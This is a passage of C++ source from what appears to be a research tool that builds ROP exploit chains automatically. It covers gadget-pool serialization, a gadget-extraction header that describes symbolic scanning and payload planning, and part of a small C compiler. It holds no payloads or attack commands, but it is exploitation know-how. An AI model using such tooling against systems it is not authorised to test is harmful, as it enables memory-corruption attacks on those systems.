    if (records_[i].end == EndKind::Syscall) syscall_gadgets_.push_back(i);
}

}  // namespace gp::gadget
