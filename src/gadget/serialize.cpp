#include "gadget/serialize.hpp"

#include "solver/serialize.hpp"

namespace gp::gadget {

namespace {

void put_operand(serial::Writer& w, const x86::Operand& op) {
  w.put_u8(static_cast<u8>(op.kind));
  w.put_u8(static_cast<u8>(op.reg));
  w.put_i64(op.imm);
  w.put_u8(static_cast<u8>(op.mem.base));
  w.put_u8(static_cast<u8>(op.mem.index));
  w.put_u8(op.mem.scale);
  w.put_i64(op.mem.disp);
  w.put_bool(op.mem.rip_relative);
}

bool get_reg(serial::Reader& r, x86::Reg& out) {
  const u8 v = r.get_u8();
  if (v > static_cast<u8>(x86::Reg::NONE)) {
    r.set_failed();
    return false;
  }
  out = static_cast<x86::Reg>(v);
  return true;
}

bool get_operand(serial::Reader& r, x86::Operand& op) {
  const u8 kind = r.get_u8();
  if (kind > static_cast<u8>(x86::OperandKind::MEM)) {
    r.set_failed();
    return false;
  }
  op.kind = static_cast<x86::OperandKind>(kind);
  if (!get_reg(r, op.reg)) return false;
  op.imm = r.get_i64();
  if (!get_reg(r, op.mem.base) || !get_reg(r, op.mem.index)) return false;
  op.mem.scale = r.get_u8();
  op.mem.disp = static_cast<i32>(r.get_i64());
  op.mem.rip_relative = r.get_bool();
  return r.ok();
}

void put_inst(serial::Writer& w, const x86::Inst& inst) {
  w.put_u8(static_cast<u8>(inst.mnemonic));
  w.put_u8(static_cast<u8>(inst.cond));
  w.put_u8(inst.src_size);
  put_operand(w, inst.dst);
  put_operand(w, inst.src);
  w.put_u8(inst.size);
  w.put_u8(inst.len);
  w.put_u64(inst.addr);
}

bool get_inst(serial::Reader& r, x86::Inst& inst) {
  const u8 mnemonic = r.get_u8();
  if (mnemonic > static_cast<u8>(x86::Mnemonic::INT3)) {
    r.set_failed();
    return false;
  }
  inst.mnemonic = static_cast<x86::Mnemonic>(mnemonic);
  const u8 cond = r.get_u8();
  if (cond > static_cast<u8>(x86::Cond::G)) {
    r.set_failed();
    return false;
  }
  inst.cond = static_cast<x86::Cond>(cond);
  inst.src_size = r.get_u8();
  if (!get_operand(r, inst.dst) || !get_operand(r, inst.src)) return false;
  inst.size = r.get_u8();
  inst.len = r.get_u8();
  inst.addr = r.get_u64();
  return r.ok();
}

}  // namespace

std::vector<std::vector<u8>> encode_pool(const solver::Context& ctx,
                                         const std::vector<Record>& pool) {
  solver::ExprEncoder enc(ctx);
  for (const Record& g : pool) {
    for (const auto e : g.final_regs) enc.add(e);
    for (const auto e : g.precond) enc.add(e);
    enc.add(g.next_rip);
    for (const auto& mw : g.writes) {
      enc.add(mw.addr);
      enc.add(mw.value);
    }
    for (const auto& ir : g.ind_reads) {
      enc.add(ir.addr);
      enc.add(ir.var);
    }
  }

  std::vector<std::vector<u8>> out;
  serial::Writer header;
  header.put_u32(static_cast<u32>(pool.size()));
  enc.write_nodes(header);
  out.push_back(header.take());

  for (const Record& g : pool) {
    serial::Writer w;
    w.put_u64(g.addr);
    w.put_u32(g.len);
    w.put_u32(static_cast<u32>(g.n_insts));
    w.put_u8(static_cast<u8>(g.end));
    w.put_bool(g.has_cond_jump);
    w.put_bool(g.has_direct_jump);
    w.put_u16(g.clobbered);
    w.put_u16(g.controlled);
    w.put_u16(g.settable);
    for (const auto e : g.final_regs) w.put_u32(enc.id(e));
    w.put_u32(static_cast<u32>(g.precond.size()));
    for (const auto e : g.precond) w.put_u32(enc.id(e));
    w.put_u32(enc.id(g.next_rip));
    w.put_bool(g.stack_delta.has_value());
    w.put_i64(g.stack_delta.value_or(0));
    w.put_u32(static_cast<u32>(g.writes.size()));
    for (const auto& mw : g.writes) {
      w.put_u32(enc.id(mw.addr));
      w.put_u32(enc.id(mw.value));
      w.put_u8(mw.width);
    }
    w.put_u32(static_cast<u32>(g.ind_reads.size()));
    for (const auto& ir : g.ind_reads) {
      w.put_u32(enc.id(ir.addr));
      w.put_u32(enc.id(ir.var));
      w.put_u8(ir.width);
    }
    w.put_u32(static_cast<u32>(g.stack_reads.size()));
    for (const i64 off : g.stack_reads) w.put_i64(off);
    w.put_u32(static_cast<u32>(g.path.size()));
    for (const PathStep& s : g.path) {
      put_inst(w, s.inst);
      w.put_bool(s.branch_taken);
    }
    w.put_bool(g.aliased_memory);
    out.push_back(w.take());
  }
  return out;
}

std::optional<std::vector<Record>> decode_pool(
    solver::Context& ctx, const std::vector<std::vector<u8>>& records) {
  if (records.empty()) return std::nullopt;
  // Smart constructors GP_CHECK their width invariants; on bytes that pass
  // the CRC but violate them (shouldn't happen, but "never trusted" means
  // never), convert the throw into a soft miss.
  try {
    serial::Reader hr(records[0]);
    const u32 count = hr.get_u32();
    solver::ExprDecoder dec(ctx);
    if (!dec.read_nodes(hr) || !hr.at_end()) return std::nullopt;
    if (count + 1 != records.size()) return std::nullopt;

    // Bounded list reads: a corrupted count must not turn into a
    // multi-gigabyte allocation.
    constexpr u32 kMaxList = 1u << 20;

    std::vector<Record> pool;
    pool.reserve(count);
    for (u32 i = 0; i < count; ++i) {
      serial::Reader r(records[i + 1]);
      Record g;
      g.addr = r.get_u64();
      g.len = r.get_u32();
      g.n_insts = static_cast<int>(r.get_u32());
      const u8 end = r.get_u8();
      if (end > static_cast<u8>(EndKind::Syscall)) return std::nullopt;
      g.end = static_cast<EndKind>(end);
      g.has_cond_jump = r.get_bool();
      g.has_direct_jump = r.get_bool();
      g.clobbered = r.get_u16();
      g.controlled = r.get_u16();
      g.settable = r.get_u16();
      for (auto& e : g.final_regs) e = dec.ref(r.get_u32(), r);
      const u32 n_pre = r.get_u32();
      if (n_pre > kMaxList) return std::nullopt;
      for (u32 k = 0; k < n_pre && r.ok(); ++k)
        g.precond.push_back(dec.ref(r.get_u32(), r));
      g.next_rip = dec.ref(r.get_u32(), r);
      const bool has_delta = r.get_bool();
      const i64 delta = r.get_i64();
      if (has_delta) g.stack_delta = delta;
      const u32 n_writes = r.get_u32();
      if (n_writes > kMaxList) return std::nullopt;
      for (u32 k = 0; k < n_writes && r.ok(); ++k) {
        sym::MemWrite mw;
        mw.addr = dec.ref(r.get_u32(), r);
        mw.value = dec.ref(r.get_u32(), r);
        mw.width = r.get_u8();
        g.writes.push_back(mw);
      }
      const u32 n_reads = r.get_u32();
      if (n_reads > kMaxList) return std::nullopt;
      for (u32 k = 0; k < n_reads && r.ok(); ++k) {
        sym::IndirectRead ir;
        ir.addr = dec.ref(r.get_u32(), r);
        ir.var = dec.ref(r.get_u32(), r);
        ir.width = r.get_u8();
        g.ind_reads.push_back(ir);
      }
      const u32 n_stack = r.get_u32();
      if (n_stack > kMaxList) return std::nullopt;
      for (u32 k = 0; k < n_stack && r.ok(); ++k)
        g.stack_reads.push_back(r.get_i64());
      const u32 n_path = r.get_u32();
      if (n_path > kMaxList) return std::nullopt;
      for (u32 k = 0; k < n_path && r.ok(); ++k) {
        PathStep s;
        if (!get_inst(r, s.inst)) return std::nullopt;
        s.branch_taken = r.get_bool();
        g.path.push_back(s);
      }
      g.aliased_memory = r.get_bool();
      if (!r.ok() || !r.at_end()) return std::nullopt;
      pool.push_back(std::move(g));
    }
    return pool;
  } catch (const Error&) {
    return std::nullopt;
  } catch (const ResourceExhausted&) {
    // Rebuilding exprs consumes the governor's node budget like any other
    // interning; exhaustion mid-decode reads as a miss and the stage falls
    // back to (governed) recomputation.
    return std::nullopt;
  }
}

void append_extract_key(serial::Writer& w, const ExtractOptions& opts) {
  w.put_u32(static_cast<u32>(opts.max_insts));
  w.put_u32(static_cast<u32>(opts.max_cond_jumps));
  w.put_u32(static_cast<u32>(opts.max_paths));
  w.put_u32(static_cast<u32>(opts.stride));
  w.put_bool(opts.drop_wild_stores);
}

u64 pool_digest(const std::vector<std::vector<u8>>& records) {
  u64 h = serial::fnv1a({});  // offset basis
  for (const auto& rec : records) {
    u8 len[8];
    const u64 n = rec.size();
    for (int i = 0; i < 8; ++i) len[i] = static_cast<u8>(n >> (8 * i));
    h = serial::fnv1a(len, h);
    h = serial::fnv1a(rec, h);
  }
  return h;
}

}  // namespace gp::gadget
