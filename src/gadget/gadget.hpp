// Gadget extraction (paper Sec. IV-B).
//
// The extractor decodes from EVERY byte offset of the code section
// (unaligned starts included), follows execution symbolically, and produces
// one Record (paper Table II) per complete path:
//  - direct jumps are followed and merged into the same gadget;
//  - conditional jumps fork the path (bounded); the branch decision becomes
//    part of the gadget's pre-condition — the feature that lets
//    Gadget-Planner use the CDJ/CIJ gadgets every baseline ignores;
//  - paths end at ret / indirect jmp / indirect call / syscall.
#pragma once

#include <array>
#include <vector>

#include "image/image.hpp"
#include "solver/expr.hpp"
#include "support/governor.hpp"
#include "support/status.hpp"
#include "sym/exec.hpp"
#include "x86/inst.hpp"

namespace gp::gadget {

/// Final control transfer of the gadget.
enum class EndKind : u8 {
  Ret,       // ret (target popped from the stack)
  IndJmp,    // jmp reg / jmp [mem]
  IndCall,   // call reg / call [mem]
  Syscall,   // execution reaches a syscall instruction
};
const char* end_kind_name(EndKind k);

/// One step of the recorded path (for re-execution during payload
/// concretization).
struct PathStep {
  x86::Inst inst;
  bool branch_taken = false;  // meaningful when inst is a Jcc
};

using RegMask = u16;
constexpr RegMask reg_bit(x86::Reg r) {
  return static_cast<RegMask>(1u << static_cast<unsigned>(r));
}

/// The paper's Table II record.
struct Record {
  u64 addr = 0;          // location: address of the first instruction
  u32 len = 0;           // bytes spanned by the first run
  int n_insts = 0;
  EndKind end = EndKind::Ret;
  bool has_cond_jump = false;    // path crossed a Jcc
  bool has_direct_jump = false;  // path merged across a direct jmp
  RegMask clobbered = 0;   // regs whose final value differs from initial
  RegMask controlled = 0;  // regs whose final value is payload-determined
  /// Regs whose final value is a function of payload slots and/or initial
  /// GP registers (no unconstrained memory): the planner can establish
  /// these by first gaining control of the source registers — the
  /// register-transfer chaining that lets `mov rdi, rbx; ret` substitute
  /// for a missing `pop rdi; ret`.
  RegMask settable = 0;

  std::array<solver::ExprRef, x86::kNumRegs> final_regs{};
  std::vector<solver::ExprRef> precond;  // path condition conjuncts
  solver::ExprRef next_rip = solver::kNoExpr;  // symbolic transfer target
  /// rsp_final - rsp_initial when concrete; nullopt otherwise.
  std::optional<i64> stack_delta;
  std::vector<sym::MemWrite> writes;  // memory side effects
  std::vector<sym::IndirectRead> ind_reads;  // POINTER-typed dependencies
  std::vector<i64> stack_reads;       // payload offsets consumed
  std::vector<PathStep> path;         // for re-execution
  bool aliased_memory = false;        // no-alias assumption was used

  bool controls(x86::Reg r) const { return controlled & reg_bit(r); }
  bool clobbers(x86::Reg r) const { return clobbered & reg_bit(r); }
  bool can_set(x86::Reg r) const { return settable & reg_bit(r); }
};

struct ExtractOptions {
  int max_insts = 32;       // per path (allows call+return merges)
  int max_cond_jumps = 2;   // fork bound per start offset
  int max_paths = 4;        // gadget variants per start offset
  /// Scan stride in bytes (1 = every offset, the paper's setting).
  /// Must be >= 1; extract() rejects anything else.
  int stride = 1;
  /// Skip gadgets that write through non-stack pointers (off by default:
  /// the planner penalizes instead of excluding).
  bool drop_wild_stores = false;
  /// Worker threads for the offset scan. 0 = the GP_THREADS env knob
  /// (default hardware_concurrency); 1 = the exact sequential path.
  /// Any value yields the same gadget pool: workers explore disjoint
  /// offset shards in private solver contexts and the results are remapped
  /// into the main context in offset order.
  int threads = 0;
  /// Shared resource governor (optional; must outlive the call). The scan
  /// polls its deadline/cancel token at every offset — on all worker lanes
  /// — and the symbolic executor consumes its step budget. Exhaustion
  /// degrades to a partial pool: unexplored offsets are counted in
  /// ExtractStats::offsets_skipped, cut summaries in paths_cut, and the
  /// reason lands in ExtractStats::status.
  Governor* governor = nullptr;
};

struct ExtractStats {
  u64 offsets_scanned = 0;
  /// Decode-failure events: offsets whose first instruction does not
  /// decode, plus mid-path failures (a path walked into undecodable
  /// bytes). Both are counted so the stat reconciles with offsets scanned.
  u64 decode_failures = 0;
  u64 gadgets = 0;
  u64 with_cond_jump = 0;
  u64 with_direct_jump = 0;
  /// Offsets the governed scan never explored (deadline, cancellation or a
  /// global budget ran out first). offsets_scanned + offsets_skipped
  /// reconciles with the section's offset count.
  u64 offsets_skipped = 0;
  /// Paths whose symbolic summary was cut mid-flight (step/node budget or
  /// an injected allocation fault) and dropped with this recorded reason —
  /// the degradation ladder's "drop, don't crash" rung.
  u64 paths_cut = 0;
  /// Ok for a complete scan; otherwise the first degradation reason.
  Status status;

  ExtractStats& operator+=(const ExtractStats& o) {
    offsets_scanned += o.offsets_scanned;
    decode_failures += o.decode_failures;
    gadgets += o.gadgets;
    with_cond_jump += o.with_cond_jump;
    with_direct_jump += o.with_direct_jump;
    offsets_skipped += o.offsets_skipped;
    paths_cut += o.paths_cut;
    status.merge(o.status);
    return *this;
  }
};

class Extractor {
 public:
  Extractor(solver::Context& ctx, const image::Image& img)
      : ctx_(ctx), img_(img), exec_(ctx, &img) {}

  std::vector<Record> extract(const ExtractOptions& opts = {});
  const ExtractStats& stats() const { return stats_; }

 private:
  std::vector<Record> extract_parallel(const ExtractOptions& opts,
                                       int threads);

  solver::Context& ctx_;
  const image::Image& img_;
  sym::Executor exec_;
  ExtractStats stats_;
};

/// Gadget library indexed by controlled register (paper Sec. V): the planner
/// looks up "who can set rdi" in O(1).
class Library {
 public:
  explicit Library(std::vector<Record> records);

  const std::vector<Record>& all() const { return records_; }
  /// Indices of gadgets that can establish register r (directly
  /// payload-controlled gadgets first, register-transfer gadgets after).
  const std::vector<u32>& controlling(x86::Reg r) const {
    return by_reg_[static_cast<int>(r)];
  }
  /// Indices of syscall-terminated gadgets.
  const std::vector<u32>& syscalls() const { return syscall_gadgets_; }
  const Record& operator[](u32 i) const { return records_[i]; }
  size_t size() const { return records_.size(); }

 private:
  std::vector<Record> records_;
  std::array<std::vector<u32>, x86::kNumRegs> by_reg_;
  std::vector<u32> syscall_gadgets_;
};

}  // namespace gp::gadget
