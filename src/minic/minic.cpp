#include "minic/minic.hpp"

#include <algorithm>
#include <optional>
#include <unordered_map>
#include <vector>

#include "support/str.hpp"

namespace gp::minic {
namespace {

using cfg::BlockId;
using cfg::Function;
using cfg::Instr;
using cfg::Opcode;
using cfg::Program;
using cfg::Temp;
using cfg::Terminator;

// ---------------------------------------------------------------------------
// Lexer
// ---------------------------------------------------------------------------

enum class Tok : u8 {
  End, Ident, Num, Str,
  KwInt, KwByte, KwIf, KwElse, KwWhile, KwReturn,
  LParen, RParen, LBrace, RBrace, LBracket, RBracket,
  Comma, Semi, Assign,
  Plus, Minus, Star, Amp, Pipe, Caret, Tilde, Bang,
  Shl, Shr, Lt, Le, Gt, Ge, EqEq, NotEq, AndAnd, OrOr,
};

struct Token {
  Tok kind = Tok::End;
  std::string text;
  i64 value = 0;
  int line = 1;
};

class Lexer {
 public:
  explicit Lexer(const std::string& src) : src_(src) { advance(); }

  const Token& peek() const { return cur_; }
  Token take() {
    Token t = cur_;
    advance();
    return t;
  }

 private:
  [[noreturn]] void err(const std::string& msg) {
    fail("minic lex error (line " + std::to_string(line_) + "): " + msg);
  }

  char look(size_t k = 0) const {
    return pos_ + k < src_.size() ? src_[pos_ + k] : '\0';
  }

  void advance() {
    // Skip whitespace and comments.
    for (;;) {
      while (pos_ < src_.size() && std::isspace(static_cast<u8>(look()))) {
        if (look() == '\n') ++line_;
        ++pos_;
      }
      if (look() == '/' && look(1) == '/') {
        while (pos_ < src_.size() && look() != '\n') ++pos_;
        continue;
      }
      if (look() == '/' && look(1) == '*') {
        pos_ += 2;
        while (pos_ < src_.size() && !(look() == '*' && look(1) == '/')) {
          if (look() == '\n') ++line_;
          ++pos_;
        }
        pos_ += 2;
        continue;
      }
      break;
    }

    cur_ = Token{};
    cur_.line = line_;
    if (pos_ >= src_.size()) {
      cur_.kind = Tok::End;
      return;
    }

    const char c = look();
    if (std::isalpha(static_cast<u8>(c)) || c == '_') {
      std::string id;
      while (std::isalnum(static_cast<u8>(look())) || look() == '_')
        id += src_[pos_++];
      cur_.text = id;
      if (id == "int") cur_.kind = Tok::KwInt;
      else if (id == "byte") cur_.kind = Tok::KwByte;
      else if (id == "if") cur_.kind = Tok::KwIf;
      else if (id == "else") cur_.kind = Tok::KwElse;
      else if (id == "while") cur_.kind = Tok::KwWhile;
      else if (id == "return") cur_.kind = Tok::KwReturn;
      else cur_.kind = Tok::Ident;
      return;
    }
    if (std::isdigit(static_cast<u8>(c))) {
      i64 v = 0;
      if (c == '0' && (look(1) == 'x' || look(1) == 'X')) {
        pos_ += 2;
        while (std::isxdigit(static_cast<u8>(look()))) {
          const char d = src_[pos_++];
          v = v * 16 + (std::isdigit(static_cast<u8>(d))
                            ? d - '0'
                            : std::tolower(d) - 'a' + 10);
        }
      } else {
        while (std::isdigit(static_cast<u8>(look())))
          v = v * 10 + (src_[pos_++] - '0');
      }
      cur_.kind = Tok::Num;
      cur_.value = v;
      return;
    }
    if (c == '\'') {
      ++pos_;
      char v = look();
      if (v == '\\') {
        ++pos_;
        const char e = look();
        v = e == 'n' ? '\n' : e == 't' ? '\t' : e == '0' ? '\0' : e;
      }
      ++pos_;
      if (look() != '\'') err("unterminated char literal");
      ++pos_;
      cur_.kind = Tok::Num;
      cur_.value = static_cast<u8>(v);
      return;
    }
    if (c == '"') {
      ++pos_;
      std::string s;
      while (look() != '"') {
        if (pos_ >= src_.size()) err("unterminated string");
        char v = look();
        if (v == '\\') {
          ++pos_;
          const char e = look();
          v = e == 'n' ? '\n' : e == 't' ? '\t' : e == '0' ? '\0' : e;
        }
        s += v;
        ++pos_;
      }
      ++pos_;
      cur_.kind = Tok::Str;
      cur_.text = s;
      return;
    }

    auto two = [&](char a, char b, Tok t) {
      if (c == a && look(1) == b) {
        pos_ += 2;
        cur_.kind = t;
        return true;
      }
      return false;
    };
    if (two('<', '<', Tok::Shl) || two('>', '>', Tok::Shr) ||
        two('<', '=', Tok::Le) || two('>', '=', Tok::Ge) ||
        two('=', '=', Tok::EqEq) || two('!', '=', Tok::NotEq) ||
        two('&', '&', Tok::AndAnd) || two('|', '|', Tok::OrOr))
      return;

    ++pos_;
    switch (c) {
      case '(': cur_.kind = Tok::LParen; return;
      case ')': cur_.kind = Tok::RParen; return;
      case '{': cur_.kind = Tok::LBrace; return;
      case '}': cur_.kind = Tok::RBrace; return;
      case '[': cur_.kind = Tok::LBracket; return;
      case ']': cur_.kind = Tok::RBracket; return;
      case ',': cur_.kind = Tok::Comma; return;
      case ';': cur_.kind = Tok::Semi; return;
      case '=': cur_.kind = Tok::Assign; return;
      case '+': cur_.kind = Tok::Plus; return;
      case '-': cur_.kind = Tok::Minus; return;
      case '*': cur_.kind = Tok::Star; return;
      case '&': cur_.kind = Tok::Amp; return;
      case '|': cur_.kind = Tok::Pipe; return;
      case '^': cur_.kind = Tok::Caret; return;
      case '~': cur_.kind = Tok::Tilde; return;
      case '!': cur_.kind = Tok::Bang; return;
      case '<': cur_.kind = Tok::Lt; return;
      case '>': cur_.kind = Tok::Gt; return;
      default: err(std::string("unexpected character '") + c + "'");
    }
  }

  const std::string& src_;
  size_t pos_ = 0;
  int line_ = 1;
  Token cur_;
};

// ---------------------------------------------------------------------------
// Symbols
// ---------------------------------------------------------------------------

struct VarInfo {
  enum class Kind : u8 { LocalScalar, LocalArray, GlobalScalar, GlobalArray };
  Kind kind;
  bool is_byte = false;  // element width for arrays
  Temp temp = cfg::kNoTemp;  // LocalScalar
  i64 offset = 0;            // array frame/data offset; GlobalScalar data off
};

// ---------------------------------------------------------------------------
// Parser + lowering (single pass, direct to CFG)
// ---------------------------------------------------------------------------

class Compiler {
 public:
  explicit Compiler(const std::string& src) : lex_(src) {}

  Program run() {
    // Pre-scan: collect function signatures so forward calls resolve. We do
    // this by parsing twice; the first pass only records decls.
    collect_signatures();
    while (lex_.peek().kind != Tok::End) top_level();
    GP_CHECK(prog_.main_index >= 0, "minic: no main function");
    cfg::verify(prog_);
    return std::move(prog_);
  }

 private:
  [[noreturn]] void err(const std::string& msg) {
    fail("minic error (line " + std::to_string(lex_.peek().line) +
         "): " + msg);
  }
  Token expect(Tok k, const char* what) {
    if (lex_.peek().kind != k) err(std::string("expected ") + what);
    return lex_.take();
  }
  bool accept(Tok k) {
    if (lex_.peek().kind == k) {
      lex_.take();
      return true;
    }
    return false;
  }

  void collect_signatures() {
    // The grammar is LL(2) at top level: type ident then '(' => function.
    // We cheat: run a fresh lexer over the same source counting functions.
    // (Function indices are allocated in declaration order in both passes.)
  }

  // -- top level -----------------------------------------------------------

  void top_level() {
    const bool is_byte = lex_.peek().kind == Tok::KwByte;
    if (!accept(Tok::KwInt) && !accept(Tok::KwByte))
      err("expected 'int' or 'byte' at top level");
    const Token name = expect(Tok::Ident, "name");
    if (lex_.peek().kind == Tok::LParen) {
      if (is_byte) err("functions return int");
      function_def(name.text);
      return;
    }
    // Global variable or array.
    VarInfo info;
    if (accept(Tok::LBracket)) {
      const Token n = expect(Tok::Num, "array size");
      expect(Tok::RBracket, "]");
      info.kind = VarInfo::Kind::GlobalArray;
      info.is_byte = is_byte;
      const i64 bytes = is_byte ? (n.value + 7) & ~i64{7} : n.value * 8;
      info.offset = prog_.add_data_zeros(static_cast<size_t>(bytes));
    } else {
      if (is_byte) err("scalar globals must be int");
      info.kind = VarInfo::Kind::GlobalScalar;
      info.offset = prog_.add_data_zeros(8);
      if (accept(Tok::Assign)) {
        const Token v = expect(Tok::Num, "initializer");
        for (int i = 0; i < 8; ++i)
          prog_.data[info.offset + i] = static_cast<u8>(v.value >> (8 * i));
      }
    }
    expect(Tok::Semi, ";");
    if (globals_.count(name.text)) err("duplicate global " + name.text);
    globals_.emplace(name.text, info);
  }

  void function_def(const std::string& name) {
    int fn_index = prog_.find_function(name);
    if (fn_index < 0) {
      fn_index = static_cast<int>(prog_.functions.size());
      prog_.functions.emplace_back();
      prog_.functions[fn_index].name = name;
    } else if (!prog_.functions[fn_index].blocks.empty()) {
      err("duplicate function " + name);
    } else {
      // Forward-reference placeholder: its arity guess is replaced by the
      // real signature (cfg::verify re-checks every call site afterwards).
      prog_.functions[fn_index].num_params = 0;
      prog_.functions[fn_index].num_temps = 0;
    }
    fn_index_ = fn_index;
    locals_.clear();
    scopes_.clear();
    scopes_.emplace_back();

    expect(Tok::LParen, "(");
    if (!accept(Tok::RParen)) {
      do {
        expect(Tok::KwInt, "int");
        const Token p = expect(Tok::Ident, "param name");
        const Temp t = fn()->new_temp();
        if (declared_in_current_scope(p.text))
          err("duplicate parameter " + p.text);
        declare(p.text,
                VarInfo{.kind = VarInfo::Kind::LocalScalar, .temp = t});
        ++fn()->num_params;
      } while (accept(Tok::Comma));
      expect(Tok::RParen, ")");
    }
    GP_CHECK(fn()->num_params <= 6, "minic: more than 6 params");

    cur_block_ = fn()->new_block();
    fn()->entry = cur_block_;
    expect(Tok::LBrace, "{");
    while (!accept(Tok::RBrace)) statement();
    // Implicit `return 0` if control can fall off the end.
    const Temp zero = fn()->new_temp();
    emit(Instr::constant(zero, 0));
    set_term(Terminator::ret(zero));
    if (name == "main") {
      if (fn()->num_params != 0) err("main takes no parameters");
      prog_.main_index = fn_index;
    }
  }

  // -- statements ------------------------------------------------------------

  void statement() {
    switch (lex_.peek().kind) {
      case Tok::KwInt:
      case Tok::KwByte:
        local_decl();
        return;
      case Tok::KwIf:
        if_statement();
        return;
      case Tok::KwWhile:
        while_statement();
        return;
      case Tok::KwReturn: {
        lex_.take();
        const Temp v = expression();
        expect(Tok::Semi, ";");
        set_term(Terminator::ret(v));
        cur_block_ = fn()->new_block();  // unreachable continuation
        return;
      }
      case Tok::LBrace: {
        lex_.take();
        push_scope();
        while (!accept(Tok::RBrace)) statement();
        pop_scope();
        return;
      }
      default:
        simple_statement();
        return;
    }
  }

  void local_decl() {
    const bool is_byte = lex_.take().kind == Tok::KwByte;
    const Token name = expect(Tok::Ident, "variable name");
    if (declared_in_current_scope(name.text))
      err("duplicate local " + name.text);
    if (accept(Tok::LBracket)) {
      const Token n = expect(Tok::Num, "array size");
      expect(Tok::RBracket, "]");
      expect(Tok::Semi, ";");
      const i64 bytes = is_byte ? (n.value + 7) & ~i64{7} : n.value * 8;
      declare(name.text, VarInfo{.kind = VarInfo::Kind::LocalArray,
                                 .is_byte = is_byte,
                                 .offset = fn()->frame_bytes});
      fn()->frame_bytes += bytes;
      return;
    }
    if (is_byte) err("scalar locals must be int");
    const Temp t = fn()->new_temp();
    declare(name.text,
            VarInfo{.kind = VarInfo::Kind::LocalScalar, .temp = t});
    if (accept(Tok::Assign)) {
      const Temp v = expression();
      emit(Instr::bin(Opcode::Copy, t, v, cfg::kNoTemp));
    } else {
      emit(Instr::constant(t, 0));
    }
    expect(Tok::Semi, ";");
  }

  void if_statement() {
    lex_.take();
    expect(Tok::LParen, "(");
    const Temp cond = expression();
    expect(Tok::RParen, ")");
    const BlockId then_b = fn()->new_block();
    const BlockId join_b = fn()->new_block();
    BlockId else_b = join_b;

    const BlockId head = cur_block_;
    cur_block_ = then_b;
    statement();
    set_term(Terminator::jump(join_b));

    if (lex_.peek().kind == Tok::KwElse) {
      lex_.take();
      else_b = fn()->new_block();
      cur_block_ = else_b;
      statement();
      set_term(Terminator::jump(join_b));
    }
    fn()->blocks[head].term = Terminator::branch(cond, then_b, else_b);
    cur_block_ = join_b;
  }

  void while_statement() {
    lex_.take();
    const BlockId head = fn()->new_block();
    const BlockId body = fn()->new_block();
    const BlockId exit = fn()->new_block();
    set_term(Terminator::jump(head));

    cur_block_ = head;
    expect(Tok::LParen, "(");
    const Temp cond = expression();
    expect(Tok::RParen, ")");
    set_term(Terminator::branch(cond, body, exit));

    cur_block_ = body;
    statement();
    set_term(Terminator::jump(head));
    cur_block_ = exit;
  }

  /// assignment / expression-statement.
  void simple_statement() {
    if (lex_.peek().kind == Tok::Ident) {
      // Lookahead for `ident =` / `ident[ e ] =`.
      const Token name = lex_.take();
      if (lex_.peek().kind == Tok::Assign) {
        lex_.take();
        const Temp v = expression();
        expect(Tok::Semi, ";");
        const VarInfo& info = lookup(name.text);
        if (info.kind != VarInfo::Kind::LocalScalar &&
            info.kind != VarInfo::Kind::GlobalScalar)
          err("cannot assign to array " + name.text);
        if (info.kind == VarInfo::Kind::LocalScalar) {
          emit(Instr::bin(Opcode::Copy, info.temp, v, cfg::kNoTemp));
        } else {
          const Temp addr = fn()->new_temp();
          emit({.op = Opcode::GlobalAddr, .dst = addr, .imm = info.offset});
          emit({.op = Opcode::Store, .a = addr, .b = v});
        }
        return;
      }
      if (lex_.peek().kind == Tok::LBracket) {
        lex_.take();
        const Temp index = expression();
        expect(Tok::RBracket, "]");
        if (lex_.peek().kind == Tok::Assign) {
          lex_.take();
          const Temp v = expression();
          expect(Tok::Semi, ";");
          const VarInfo& info = lookup(name.text);
          const Temp addr = element_addr(info, name.text, index);
          emit({.op = info.is_byte && is_array(info) ? Opcode::StoreB
                                                     : Opcode::Store,
                .a = addr, .b = v});
          return;
        }
        // Not an assignment: it was an index expression statement; finish
        // parsing it as an expression and discard.
        const VarInfo& info = lookup(name.text);
        const Temp addr = element_addr(info, name.text, index);
        const Temp dst = fn()->new_temp();
        emit({.op = info.is_byte && is_array(info) ? Opcode::LoadB
                                                   : Opcode::Load,
              .dst = dst, .a = addr});
        (void)finish_expression(dst);
        expect(Tok::Semi, ";");
        return;
      }
      // Plain expression starting with an identifier (e.g. a call).
      const Temp v = primary_with_ident(name);
      (void)finish_expression(v);
      expect(Tok::Semi, ";");
      return;
    }
    (void)expression();
    expect(Tok::Semi, ";");
  }

  // -- expressions ----------------------------------------------------------
  // Recursive descent; each level returns the temp holding the value.

  Temp expression() { return parse_or(); }

  /// Continue parsing binary operators after an already-computed primary.
  Temp finish_expression(Temp lhs) {
    // Feed lhs through the whole precedence chain.
    lhs = postfix_ops(lhs);
    return parse_or_with(lhs);
  }

  Temp parse_or_with(Temp lhs) {
    // Rebuild the precedence climb with an existing lhs: the clean way would
    // be a full Pratt parser; for our grammar it is enough to handle the
    // binary tail at each level.
    lhs = mul_tail(lhs);
    lhs = add_tail(lhs);
    lhs = shift_tail(lhs);
    lhs = rel_tail(lhs);
    lhs = eq_tail(lhs);
    lhs = band_tail(lhs);
    lhs = bxor_tail(lhs);
    lhs = bor_tail(lhs);
    lhs = and_tail(lhs);
    lhs = or_tail(lhs);
    return lhs;
  }

  Temp parse_or() {
    Temp l = parse_and();
    return or_tail(l);
  }
  Temp or_tail(Temp l) {
    while (lex_.peek().kind == Tok::OrOr) {
      lex_.take();
      const Temp r = parse_and();
      l = logic_norm(Opcode::Or, l, r);
    }
    return l;
  }
  Temp parse_and() {
    Temp l = parse_bor();
    return and_tail(l);
  }
  Temp and_tail(Temp l) {
    while (lex_.peek().kind == Tok::AndAnd) {
      lex_.take();
      const Temp r = parse_bor();
      l = logic_norm(Opcode::And, l, r);
    }
    return l;
  }
  Temp parse_bor() {
    Temp l = parse_bxor();
    return bor_tail(l);
  }
  Temp bor_tail(Temp l) {
    while (lex_.peek().kind == Tok::Pipe) {
      lex_.take();
      l = binop(Opcode::Or, l, parse_bxor());
    }
    return l;
  }
  Temp parse_bxor() {
    Temp l = parse_band();
    return bxor_tail(l);
  }
  Temp bxor_tail(Temp l) {
    while (lex_.peek().kind == Tok::Caret) {
      lex_.take();
      l = binop(Opcode::Xor, l, parse_band());
    }
    return l;
  }
  Temp parse_band() {
    Temp l = parse_eq();
    return band_tail(l);
  }
  Temp band_tail(Temp l) {
    while (lex_.peek().kind == Tok::Amp) {
      lex_.take();
      l = binop(Opcode::And, l, parse_eq());
    }
    return l;
  }
  Temp parse_eq() {
    Temp l = parse_rel();
    return eq_tail(l);
  }
  Temp eq_tail(Temp l) {
    for (;;) {
